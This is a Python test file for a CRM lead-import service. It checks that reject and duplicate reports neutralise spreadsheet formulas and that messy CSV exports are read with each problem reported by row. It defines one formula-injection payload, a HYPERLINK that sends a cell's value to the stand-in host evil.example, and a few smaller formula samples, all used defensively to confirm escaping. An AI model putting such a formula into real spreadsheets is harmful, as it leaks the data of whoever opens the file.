"""An import says what it read and what it could not: the reports open safely in a
spreadsheet, and the summary names the rows behind its counts. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
from pathlib import Path

from sqlalchemy import select
from sqlalchemy.orm import selectinload

from teleprospect.core.csv_export import FORMULA_TRIGGERS
from teleprospect.core.domain import DuplicatePolicy
from teleprospect.services.imports.leads import LeadImportRequest, import_leads
from teleprospect.store.database import Database
from teleprospect.store.models import Lead

FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"open")'


def request(path: Path, tmp_path: Path, **overrides: object) -> LeadImportRequest:
    return LeadImportRequest(path=path, login="mia", report_dir=tmp_path / "reports", **overrides)  # type: ignore[arg-type]


def leads(db: Database) -> list[Lead]:
    with db.read() as session:
        return list(
            session.scalars(select(Lead).options(selectinload(Lead.phones)).order_by(Lead.id))
        )


def read_report(path: Path | None) -> list[list[str]]:
    assert path is not None
    with open(path, encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def test_reject_and_duplicate_reports_never_hold_a_cell_a_spreadsheet_would_run(
    db: Database, tmp_path: Path
) -> None:
    with db.write() as session:
        session.add(
            Lead(first_name="+SUM(1+1)", last_name="-1+2", email="anna@mueller.de", match_key="x")
        )
    path = tmp_path / "fair.csv"
    path.write_text(
        "First Name,Last Name,Email,Phone,@Booth\n"
        f',,,,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
        "Anna,Schmidt,anna@mueller.de,+49 30 901820,@x\n",
        encoding="utf-8",
    )
    summary = import_leads(db, request(path, tmp_path, on_duplicate=DuplicatePolicy.SKIP))
    assert (summary.rejected, summary.duplicates) == (1, 1)
    rejected = read_report(summary.reject_file)
    duplicates = read_report(summary.duplicates_file)
    for row in rejected + duplicates:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell
    assert rejected[0][-1] == "'@Booth" and rejected[1][-1] == "'" + FORMULA
    assert rejected[1][0] == "2", "the row number is still a plain number"
    assert duplicates[1][2] == "'+SUM(1+1) -1+2"


def real_export(tmp_path: Path) -> Path:
    """A CRM export as users bring them: two title lines and a blank one above the header,
    rows without their trailing empty cell, a quote never closed, a byte written by an
    older tool, and a number too short to dial."""
    path = tmp_path / "crm export.csv"
    path.write_bytes(
        b"Contacts export\r\nExported 2025-03-01 by Jane Roe\r\n\r\n"  # lines 1-3
        + b"First Name,Last Name,Company,Email,Phone,Notes\r\n"  # line 4
        + "Anna,Müller,Müller GmbH,anna@mueller.de,+49 30 901820\r\n".encode()  # 5
        + b'Bob,"Lee,Lee Ltd,bob@lee.example,+44 20 7946 0018\r\n'  # 6: quote never closed
        + b"Carl,Gr\xfcn,Gr\xfcn AG,carl@gruen.example,+41 44 668 18 00\r\n"  # 7: a cp1252 byte
        + b"Dana,Diaz,Diaz SA,dana@diaz.example,555-01\r\n"  # 8
        + b"Eve,Stone,Stone Inc,eve@stone.example,+1 212 555 0199,met at the fair\r\n"  # 9
    )
    return path


def test_a_real_export_is_read_with_every_liberty_taken_said_by_row(
    db: Database, tmp_path: Path
) -> None:
    summary = import_leads(db, request(real_export(tmp_path), tmp_path))
    assert (summary.rows, summary.imported, summary.rejected) == (5, 5, 0)
    assert summary.skipped_note == "Skipped 3 lines above the header."
    assert summary.read_problems == 2, "the unclosed quote and the stray byte, nothing else"
    assert summary.invalid_phones == 1
    names = {lead.first_name: lead for lead in leads(db)}
    assert (names["Bob"].email, names["Bob"].phone_e164) == ("bob@lee.example", "+442079460018")
    assert names["Carl"].last_name == "Grün" and names["Carl"].company == "Grün AG"
    assert names["Anna"].last_name == "Müller" and "Import problems" not in names["Anna"].extra
    assert "Import problems" not in names["Eve"].extra, "a short row is no problem"
    assert names["Dana"].phone_raw == "555-01" and not names["Dana"].phone_valid

    assert summary.summary_file is not None
    text = summary.summary_file.read_text(encoding="utf-8")
    assert "Skipped 3 lines above the header." in text
    assert "Leads with no valid phone:         1 — row 8: '555-01'" in text
    (read_line,) = [line for line in text.splitlines() if line.startswith("Rows not read")]
    assert "row 6: a quote in this row is never closed" in read_line
    assert "row 7: not valid UTF-8, read as Windows-1252: 0xFC as 'ü'" in read_line
    assert summary.as_json()["examples"]["invalid_phones"] == ["row 8: '555-01'"]


def test_a_summary_names_only_the_first_rows_of_a_long_count(db: Database, tmp_path: Path):  # noqa: ANN201
    path = tmp_path / "bad phones.csv"
    rows = "".join(f"Lead{n},lead{n}@x.example,{n:03d}\n" for n in range(10))
    path.write_text("Name,Email,Phone\n" + rows, encoding="utf-8")
    summary = import_leads(db, request(path, tmp_path))
    assert summary.invalid_phones == 10
    assert summary.behind("invalid_phones") == (" — row 2: '000'; row 3: '001'; row 4: '002' …")
